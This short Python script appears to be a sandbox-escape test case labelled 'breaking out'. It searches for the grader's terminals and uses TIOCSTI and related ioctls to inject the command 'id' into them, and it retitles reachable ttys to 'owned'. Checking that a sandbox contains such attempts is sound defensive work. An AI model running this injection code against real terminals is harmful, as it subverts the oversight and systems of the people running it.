# ruff: noqa
"""Looks for the terminal of whoever grades, types a command into it, and changes its title."""

FAMILY = "breaking out"
MAY_PASS = []
MUST_NOT = "A terminal outside the sandbox receives a character."

# %%
import fcntl
import glob
import os

TIOCSTI, TIOCSCTTY, TIOCLINUX, TIOCCONS = 0x5412, 0x540E, 0x541C, 0x541D
paths = [
    "/dev/tty",
    "/dev/console",
    "/dev/tty0",
    "/dev/tty1",
    *glob.glob("/dev/pts/*"),
    *glob.glob("/proc/*/fd/[012]"),
]
descriptors = {0: "0", 1: "1", 2: "2"}
for path in paths:
    try:
        descriptors[os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK)] = path
    except OSError:
        pass
for descriptor, path in descriptors.items():
    print(path, os.isatty(descriptor))
    for request, argument in (
        (TIOCSCTTY, 1),
        (TIOCCONS, 0),
        (TIOCLINUX, b"\x03"),
        *((TIOCSTI, bytes([c])) for c in b"id\n"),
    ):
        try:
            print("worked", path, hex(request), fcntl.ioctl(descriptor, request, argument))
        except OSError:
            pass
    if os.isatty(descriptor):
        os.write(descriptor, b"\x1b]0;owned\x07")
